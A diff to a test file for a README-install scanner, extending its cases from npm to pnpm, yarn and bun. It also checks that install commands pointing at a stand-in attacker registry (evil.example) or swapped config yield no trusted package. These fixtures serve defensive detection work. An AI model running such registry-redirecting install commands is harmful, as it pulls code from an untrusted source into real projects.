@@ -299,7 +299,7 @@ describe('hostile: a README install names what its runner would run', () => {
     expect(readme([command, ...args].join(' '))).toEqual(launched(command, args));
   });
 
-  it('npm install read as npm reads its command line: settings anywhere, another registry names nothing', ({ task }) => {
+  it('npm install read as npm reads its command line, and pnpm/yarn/bun add: another registry names nothing', ({ task }) => {
     const cases: [string, string[]][] = [
       [`npx -y --registry=https://registry.example/ ${TRUSTED}`, [TRUSTED]],
       [`npm i ${TRUSTED} --registry=https://evil.example/`, []],
@@ -310,6 +310,14 @@ describe('hostile: a README install names what its runner would run', () => {
       [`npm i -w ws ${TRUSTED}`, [TRUSTED]],
       [`npm isnt --registry https://registry.example/ ${TRUSTED} ${EVIL}`, [TRUSTED, EVIL]],
       [`npm -g add ${TRUSTED}`, [TRUSTED]],
+      [`pnpm add ${TRUSTED} --registry https://evil.example/`, []],
+      [`pnpm add -C ./conf ${TRUSTED}`, []],
+      [`pnpm add --config.registry=https://evil.example/ ${TRUSTED}`, []],
+      [`yarn add ${TRUSTED} --registry=https://evil.example/`, []],
+      [`yarn global add --registry https://evil.example/ ${TRUSTED}`, []],
+      [`bun add --registry https://evil.example/ ${TRUSTED}`, []],
+      [`pnpm add --registry https://registry.example/ ${TRUSTED}`, [TRUSTED]],
+      [`yarn add -D ${TRUSTED}`, [TRUSTED]],
     ];
     noteCases(task, cases.length);
     for (const [line, names] of cases) expect(readme(line), line).toEqual(names);
